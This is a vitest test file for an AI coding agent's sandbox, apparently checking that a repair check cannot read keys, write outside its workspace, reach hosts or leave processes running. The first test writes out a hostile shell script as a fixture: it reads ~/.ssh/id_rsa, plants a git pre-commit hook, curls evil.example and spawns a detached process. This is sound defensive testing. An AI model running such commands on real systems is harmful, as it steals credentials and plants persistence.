/** Checks of a repair run behind the walls of the agent's commands: they are code that the agent may have changed. */

import { spawnSync } from "node:child_process";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { procTable } from "../../../src/tools/bash/shell/process-table-proc.ts";
import { engine } from "../../sandbox/support.ts";
import { putIn } from "../../support/tree.ts";
import { until } from "../../support/until.ts";
import { fix, read, repairing, setUp, small, smallCheck } from "./fix-workspace.ts";

describe.skipIf(!engine)("a check in a sandbox", () => {
  test("reads no key, writes nothing outside, reaches no host, leaves nothing running, and is repaired", async () => {
    const mark = `3456.${process.pid}`;
    const evil = `cat ~/.ssh/id_rsa; echo x > ~/evil; echo x > .git/hooks/pre-commit; curl -sS --max-time 9 http://evil.example/
      setsid -f sleep ${mark}; touch made-here $TMPDIR/x; echo "in $PWD"`;
    const { workspace } = await setUp(repairing, { files: { ...small, "test/evil.sh": evil } });
    putIn(workspace.home, ".ssh/id_rsa", "KEY-CANARY");
    const check = `sh test/evil.sh; ${smallCheck}`;
    const words = ["--check", check, "--patch", "out.diff", "--sandbox", "on"];
    const { code, result } = await fix(workspace, words);
    expect(code).toBe(0);
    expect(result.fix).toMatchObject({ state: "repaired" });
    expect(result.fix.changed).toContain("value.txt");
    expect(read(workspace, "out.diff")).toContain("+good");
    expect(existsSync(join(workspace.home, "evil"))).toBe(false);
    expect(existsSync(join(workspace.cwd, ".git/hooks/pre-commit"))).toBe(false);
    expect(existsSync(join(workspace.cwd, "made-here"))).toBe(true);
    expect(JSON.stringify(result)).not.toContain("KEY-CANARY");
    await until(
      () =>
        !procTable()
          .all()
          .some(({ pid }) => procTable().commandLine(pid).includes(mark)),
      "the end of all processes",
    );
  }, 180_000);

  test("tells its status, its output and the hosts that it missed, as the model reads them", async () => {
    const { workspace } = await setUp(repairing, { files: small });
    const check = `echo told; curl -sS --max-time 9 http://missed.example/ >/dev/null; kill -SEGV $$; ${smallCheck}`;
    const { code, stderr } = await fix(workspace, [
      "--check",
      check,
      "--sandbox",
      "on",
      "--max-attempts",
      "1",
    ]);
    expect(code).not.toBe(0);
    expect(stderr).toMatch(/exit 139/);
    const state = join(workspace.home, "sawtooth");
    const { stdout } = spawnSync("grep", ["-rl", "missed.example:80 is not on the list", state], {
      encoding: "utf8",
    });
    expect(stdout).not.toBe("");
  }, 180_000);
});
